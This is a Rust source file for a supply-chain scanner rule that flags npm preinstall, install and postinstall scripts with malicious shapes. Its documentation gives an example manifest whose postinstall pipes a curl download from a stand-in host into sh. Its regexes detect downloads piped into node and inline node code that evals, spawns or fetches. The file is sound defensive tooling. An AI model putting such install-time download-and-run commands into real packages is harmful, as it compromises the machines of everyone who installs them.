//! PKG012 npm-install-script-shell-command.

use super::super::patterns::{SHELL_COMMANDS, matches};
use crate::context::Cx;
use assay_core::{Capability, ExecutionContext, Finding, Location};
use regex::RegexSet;
use std::sync::LazyLock;

declare_rule! {
    /// ## What it does
    /// Reads the `package.json` at the root of an npm package (an npm tarball's
    /// `package/package.json`, or a package directory) and flags a `preinstall`,
    /// `install` or `postinstall` script whose command has a known-malicious shape:
    /// download-and-run (`curl … | sh`, `wget … && chmod +x`, a download piped or chained
    /// into `node`), inline `node -e` code that decodes, evaluates, spawns or fetches, and
    /// the hostile shell shapes of PY003 (encoded PowerShell, LOLBins, reverse shells,
    /// `/dev/tcp/`, destructive `rm -rf /`).
    ///
    /// ## Why it matters
    /// npm runs these scripts automatically on `npm install`, with the user's rights and
    /// before any of the package's code is imported; worms and stealers on npm (e.g. the
    /// 2025 Shai-Hulud campaign, the `eslint-config-prettier` and `nx` compromises) start
    /// from an install script that fetches or runs a second stage.
    ///
    /// ## Example
    /// ```json
    /// {"name": "pkg", "version": "1.0.0",
    ///  "scripts": {"postinstall": "curl -s https://example.invalid/x.sh | sh"}}
    /// ```
    ///
    /// ## False positives
    /// Build steps such as `node scripts/build.js`, `node-gyp rebuild`,
    /// `prebuild-install || node-gyp rebuild` or `husky install` run the package's own
    /// files and are not flagged: their content is the scan's business, not the script
    /// line's. Scripts other than the three install hooks (`test`, `build`, `prepare`)
    /// do not run on a registry install and are not read.
    ///
    /// ## References
    /// - npm docs, "scripts": life cycle scripts run by `npm install`
    /// - CWE-506: Embedded Malicious Code
    /// - MITRE ATT&CK T1195.002 (Compromise Software Supply Chain), T1059
    pub static META = NpmInstallScriptShellCommand;
}

/// The lifecycle scripts `npm install` runs for a dependency.
const INSTALL_SCRIPTS: &[&str] = &["preinstall", "install", "postinstall"];

/// Largest `package.json` parsed, in bytes (npm's own limit on manifests is far lower
/// in practice; a larger one is left to the other rules).
const MAX_MANIFEST: usize = 4 << 20;

/// npm-specific shapes, on top of [`SHELL_COMMANDS`].
static NODE_SHAPES: LazyLock<(RegexSet, Vec<&'static str>)> = LazyLock::new(|| {
    let names = vec![
        // A download piped or chained into node.
        r"(?i)(curl|wget)\b[^|;&]*\|\s*node\b",
        r"(?i)(curl|wget)\b.*(&&|;)\s*node\s",
        // Inline code that decodes, evaluates, spawns or fetches.
        r#"\bnode\s+(-e|--eval|-p|--print)\b.*(eval\(|Function\(|child_process|execSync|spawn\(|Buffer\.from\([^)]*base64|atob\(|https?\.get|require\(\s*['"]https?['"]|fetch\()"#,
    ];
    #[allow(clippy::expect_used)]
    let set = RegexSet::new(&names).expect("static pattern set compiles");
    (set, names)
});

/// Check the package manifest's install scripts.
pub fn check(cx: &Cx, out: &mut Vec<Finding>) {
    for e in &cx.artifact.entries {
        let rel = cx.rel(&e.path);
        // The package root: `package.json` or `<dir>/package.json` (npm tarballs use
        // `package/`), not the manifests of bundled `node_modules`.
        if e.file_name() != "package.json" || rel.split('/').count() > 2 || !e.complete {
            continue;
        }
        if e.data.len() > MAX_MANIFEST {
            continue;
        }
        let Ok(v) = serde_json::from_slice::<serde_json::Value>(&e.data) else {
            continue;
        };
        let Some(scripts) = v.get("scripts").and_then(|s| s.as_object()) else {
            continue;
        };
        for hook in INSTALL_SCRIPTS {
            let Some(cmd) = scripts.get(*hook).and_then(|c| c.as_str()) else {
                continue;
            };
            let mut hits = matches(&SHELL_COMMANDS, cmd);
            hits.extend(matches(&NODE_SHAPES, cmd));
            if hits.is_empty() {
                continue;
            }
            let shown: String = cmd.chars().take(200).collect();
            let mut x = cx.finding(
                &META,
                Location::file(e.path.clone()),
                format!("`{hook}` script runs at npm install: {shown}"),
            );
            x.context = Some(ExecutionContext::InstallTime);
            x.capabilities = vec![Capability::Process, Capability::Network];
            out.push(x);
        }
    }
}
